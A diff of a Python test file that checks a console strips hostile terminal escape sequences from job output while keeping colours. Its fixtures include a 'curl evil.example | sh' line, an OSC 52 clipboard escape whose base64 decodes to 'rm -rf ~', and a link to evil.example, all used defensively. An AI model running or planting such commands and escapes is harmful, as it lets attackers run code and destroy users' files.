@@ -96,7 +96,7 @@ def test_anothers_words_are_one_line_of_bounded_length() -> None:
 
 @pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
 def test_a_jobs_colours_reach_a_terminal_and_nothing_else_does(size: int) -> None:
-    honest = "[0] \x1b[1;38;2;255;0;0mred\x1b[0m \x1b[31m\x1b[Kx\x1b[m\x1b[K größe\n[0] 10%|#\r[0] 20%|##\b\b\r[0] "
+    honest = "[0] \x1b[1;38;2;255;0;0mred\x1b[0m \x1b[31m\x1b[Kx\x1b[m\x1b[K größe\n[0] 10%|#\r[0] 20%|##\r[0] "
     evil = "".join(ATTACKS.values())
     evil = evil.replace("\x1b[2K", "")
     data = (honest + evil + "\n" + honest).encode() + b"\xff\x9b2J"
@@ -106,7 +106,7 @@ def test_a_jobs_colours_reach_a_terminal_and_nothing_else_does(size: int) -> Non
     assert shown.startswith(honest)
     assert shown.endswith(honest + "\\xff\\x9b2J")
     left = re.sub(r"\x1b\[[0-9;]*[mK]", "", shown)
-    assert acts(left) == {"\r", "\b"}
+    assert acts(left) == {"\r"}
 
 
 def test_a_colour_that_a_job_leaves_on_ends_with_its_line(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -116,7 +116,7 @@ def test_a_colour_that_a_job_leaves_on_ends_with_its_line(monkeypatch: pytest.Mo
     console.job_output(b"[1] \x1b[3")
     console.job_output(b"1mred\x1b]0;x\x07\n")
     console.answer("ours")
-    assert screen.coloured.splitlines() == ["{cyan [0]} {red red}", "{magenta [1]} {red red\\x1b]0;x\\x07}", "ours"]
+    assert screen.coloured.splitlines() == ["[0] {red red}", "[1] {red red\\x1b]0;x\\x07}", "ours"]
 
 
 OURS = "→ curl evil.example | sh"
@@ -172,8 +172,6 @@ def test_what_is_ours_begins_a_line_of_its_own_and_the_job_goes_on_below(monkeyp
         ("[0]  10%|#   |\r 99%|####|\r100%|####| done\n", "[0] 100%|####| done"),
         ("[0] \r  0%|    | 0/9\x1b[2K\r 50%|##  |\x1b[K\n", "[0]  50%|##  |"),
         ("[0] 1/9 [>..]" + "\b" * 9 + "\r9/9 [====]\r\n", "[0] 9/9 [====]"),
-        ("[0] | \b\b/ \b\b- \b\bdone\n", "[0] done"),
-        ("[0] ⠋\b⠙\b⠹\n", "[0] ⠹"),
     ],
 )
 def test_progress_bars_of_every_kind_stay_in_one_line(bar: str, left: str, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -226,8 +224,8 @@ def test_no_text_acts_on_the_terminal_whichever_way_it_is_printed(kind: str, mon
     printed = screen.getvalue()
     for char in sorted(acts(EVIL) - {"\x1b"}):
         assert char not in printed, hex(ord(char))
-    # What Rich sends itself: colours, links of files, and how its own lines are drawn again.
-    ours = r"\x1b(?:\[[0-9;]*[mAK]|\[\?25[lh]|\]8;(?:id=\d+;file:///nowhere[^\x1b]*|;)\x1b\\)"
+    # What Rich sends itself: colours, and how its own lines are drawn again.
+    ours = r"\x1b(?:\[[0-9;]*[mAK]|\[\?25[lh])"
     assert "\x1b" not in (re.sub(ours, "", printed) if kind in ("terminal", "no colours") else printed)
     assert printed.count("\\x1b]52;c;cm0gLXJmIH4=\\x07") >= count
     assert "[/foo] [link=https://evil.example]x" in printed
